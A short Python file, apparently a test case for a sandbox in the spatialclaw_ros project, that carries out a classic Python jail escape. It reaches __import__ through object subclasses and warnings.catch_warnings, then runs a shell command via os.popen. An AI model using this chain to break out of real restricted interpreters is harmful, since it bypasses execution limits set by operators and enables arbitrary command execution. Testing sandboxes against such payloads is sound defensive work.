# Copyright 2026 The spatialclaw_ros authors
#
# Licensed under the Apache License, Version 2.0 (the "License");
# you may not use this file except in compliance with the License.
# You may obtain a copy of the License at
#
#     http://www.apache.org/licenses/LICENSE-2.0
#
# Unless required by applicable law or agreed to in writing, software
# distributed under the License is distributed on an "AS IS" BASIS,
# WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
# See the License for the specific language governing permissions and
# limitations under the License.

"""`warnings.catch_warnings` keeps its module, whose builtins know `__import__`.

The classic chain of Python 2 jails, still alive in Python 3.
"""

# act: spawn

kinds = ''.__class__.__mro__[1].__subclasses__()
catcher = [kind for kind in kinds if kind.__name__ == 'catch_warnings'][0]()
load = catcher._module.__builtins__['__import__']
print(load('os').popen(PROGRAM).read())
